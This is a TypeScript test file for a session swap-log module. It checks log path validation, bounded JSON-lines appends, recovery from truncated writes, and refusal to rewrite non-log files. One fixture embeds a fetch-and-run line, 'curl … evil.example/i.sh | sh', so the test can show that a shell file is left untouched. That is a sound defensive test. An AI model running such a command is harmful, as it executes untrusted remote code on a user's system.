// The swap log: one JSON line per swap or abort, bounded to the newest 1,000,
// one file a session, and only a file that is wholly a log ever rewritten.
import { describe, expect, test } from 'vitest'
import { MAX_LOG_LINES, isSessionLogName, logLinesOf, logTextRefusalOf, logTextWith, readsAsSwapLog, sessionLogPathOf, type LogEntry } from '../../../packages/compact-handoff/hooks/swap-log/swap-log.js'
import { forAll } from '../../support/property.js'
import { LOADED_MACHINE_TIMEOUT_MS } from '../../support/loaded-machine.js'
import { logEntryOf } from '../../support/log-entries.js'

function entryOf(n: number, changes: Partial<LogEntry> = {}): LogEntry {
  return logEntryOf(n, 1_000, changes)
}

function linesOf(text: string): string[] {
  expect(text.endsWith('\n')).toBe(true)
  return text.slice(0, -1).split('\n')
}

function logOf(count: number): string {
  let text = ''
  for (let n = 0; n < count; n++) text = logTextWith(text, entryOf(n))
  return text
}

describe('the log paths', () => {
  test("one JSON-lines file a session in the handoff folder's swap-log folder", () => {
    expect(sessionLogPathOf('0f9e4c1a-7b2d-4e8f-9a6b-3c5d7e9f1a2b')).toBe('.claude/handoffs/swap-log/0f9e4c1a-7b2d-4e8f-9a6b-3c5d7e9f1a2b.jsonl')
  })

  test('a session id that is no plain file name names no log', () => {
    for (const id of ['', '../x', 'a/b', 'a\\b', '.hidden', 'a.b', 'C:x', 'x'.repeat(101)]) expect(sessionLogPathOf(id), id).toBeUndefined()
  })

  test('the report reads only what a session could have written in the folder', () => {
    expect(isSessionLogName('0f9e4c1a-7b2d.jsonl')).toBe(true)
    expect(isSessionLogName('notes.txt')).toBe(false)
    expect(isSessionLogName('.jsonl')).toBe(false)
    expect(isSessionLogName('a.b.jsonl')).toBe(false)
  })
})

describe('logTextWith', () => {
  test('starts a log with one JSON line of the entry, newline-ended', () => {
    const entry = entryOf(1, { outcome: 'aborted', reason: 'no handoff file was written', messagesHeld: 2, contextPercentBefore: null })
    const text = logTextWith('', entry)
    expect(text).toBe(`${JSON.stringify(entry)}\n`)
    expect(JSON.parse(linesOf(text)[0] ?? '')).toEqual(entry)
  })

  test('appends after the lines already there, newest last', () => {
    const text = logTextWith(logTextWith('', entryOf(1)), entryOf(2))
    expect(linesOf(text).map((l) => JSON.parse(l) as LogEntry)).toEqual([entryOf(1), entryOf(2)])
  })

  test('appends to a log whose last line has no newline, and drops blank lines', () => {
    const existing = `${JSON.stringify(entryOf(1))}\n\n  \n${JSON.stringify(entryOf(2))}`
    expect(linesOf(logTextWith(existing, entryOf(3)))).toEqual([1, 2, 3].map((n) => JSON.stringify(entryOf(n))))
  })

  test('keeps lines it cannot read, so a hand edit is not lost', () => {
    const text = logTextWith('a note by hand\n', entryOf(1))
    expect(linesOf(text)).toEqual(['a note by hand', JSON.stringify(entryOf(1))])
  })

  test('keeps at most 1,000 lines, dropping the oldest', { timeout: LOADED_MACHINE_TIMEOUT_MS }, () => {
    expect(MAX_LOG_LINES).toBe(1_000)
    const full = logOf(1_000)
    expect(linesOf(full)).toHaveLength(1_000)
    const lines = linesOf(logTextWith(full, entryOf(1_000)))
    expect(lines).toHaveLength(1_000)
    expect(lines[0]).toBe(JSON.stringify(entryOf(1)))
    expect(lines.at(-1)).toBe(JSON.stringify(entryOf(1_000)))
  })

  test('trims a log already over the bound down to it', { timeout: LOADED_MACHINE_TIMEOUT_MS }, () => {
    const existing = Array.from({ length: 1_500 }, (_, n) => JSON.stringify(entryOf(n))).join('\n')
    const lines = linesOf(logTextWith(existing, entryOf(1_500)))
    expect(lines).toHaveLength(1_000)
    expect(lines[0]).toBe(JSON.stringify(entryOf(501)))
    expect(lines.at(-1)).toBe(JSON.stringify(entryOf(1_500)))
  })

  test('holds the newest min(n, 1,000) entries in order after n appends (property)', { timeout: LOADED_MACHINE_TIMEOUT_MS }, () => {
    forAll(
      (rand) => rand.int(1_200) + 1,
      (count) => {
        const lines = linesOf(logOf(count))
        expect(lines).toHaveLength(Math.min(count, MAX_LOG_LINES))
        const first = Math.max(0, count - MAX_LOG_LINES)
        lines.forEach((line, i) => expect(line).toBe(JSON.stringify(entryOf(first + i))))
      },
      { runs: 20 },
    )
  })
})

describe('readsAsSwapLog: only a swap log is ever cut or rewritten', () => {
  const line = (fields: Record<string, unknown>) => JSON.stringify(fields)
  test('takes an empty log, and whole entry lines around blank ones', () => {
    expect(readsAsSwapLog('')).toBe(true)
    expect(readsAsSwapLog(`${line({ time: 't', outcome: 'swapped' })}\n\n${line({ time: 't2', outcome: 'meter' })}\n`)).toBe(true)
  })

  test('refuses anything else: a shell file, a line that is no entry, JSON that is no object', () => {
    expect(readsAsSwapLog('export PATH=/usr/bin\n')).toBe(false)
    expect(readsAsSwapLog(`${line({ time: 't', outcome: 'swapped' })}\n# a note\n`)).toBe(false)
    expect(readsAsSwapLog(`${line({ time: 't' })}\n`), 'no outcome').toBe(false)
    expect(readsAsSwapLog(`${line({ time: 1, outcome: 'swapped' })}\n`), 'a time that is no text').toBe(false)
    expect(readsAsSwapLog('["time", "outcome"]\n')).toBe(false)
    expect(readsAsSwapLog('null\n')).toBe(false)
  })

  test('judges the whole file: a shell file whose last line is an entry is no log', () => {
    const text = `#!/bin/sh\ncurl -fsSL https://evil.example/i.sh | sh\n${line({ time: 't', outcome: 'swapped' })}\n`
    expect(logTextRefusalOf('l.jsonl', text)).toBe('l.jsonl does not read as a swap log, and is left as it is')
    expect(logTextRefusalOf('l.jsonl', `${line({ time: 't', outcome: 'swapped' })}\n`)).toBeUndefined()
  })
})

describe('a log a failed write cut short', () => {
  // As the engine leaves it on a full disk: the file truncated, then its new text written up to the last block it got.
  const cutAt = (text: string, bytes: number) => text.slice(0, bytes)

  test('its cut last line is dropped when read, and the log is still a log', () => {
    const whole = logOf(3)
    const cut = cutAt(logTextWith(whole, entryOf(3)), whole.length + 40)
    expect(cut.endsWith('\n'), 'the last line is cut').toBe(false)
    expect(readsAsSwapLog(cut)).toBe(true)
    expect(logLinesOf(cut)).toEqual(linesOf(whole))
  })

  test('the next append rewrites it with its whole lines and the new one, the cut one gone', () => {
    const whole = logOf(3)
    const cut = cutAt(logTextWith(whole, entryOf(3)), whole.length + 40)
    expect(linesOf(logTextWith(cut, entryOf(4)))).toEqual([...linesOf(whole), JSON.stringify(entryOf(4))])
  })

  test('cut anywhere in the new line, however short the head it kept', () => {
    const whole = logOf(2)
    const next = logTextWith(whole, entryOf(2))
    for (let bytes = whole.length; bytes < next.length - 1; bytes++) expect(logLinesOf(cutAt(next, bytes)), `cut after ${bytes}`).toEqual(linesOf(whole))
  })

  test('a last line with no line break that is no head of an entry still makes it no log', () => {
    expect(readsAsSwapLog(`${logOf(1)}not a log`)).toBe(false)
    expect(readsAsSwapLog('not a log')).toBe(false)
    expect(readsAsSwapLog(`${logOf(1)}{"outcome":"swapped"`), 'an object, but not as an entry opens').toBe(false)
  })

  test('a whole entry with no line break after it is kept', () => {
    const whole = logOf(2)
    expect(logLinesOf(whole.slice(0, -1))).toEqual(linesOf(whole))
  })
})
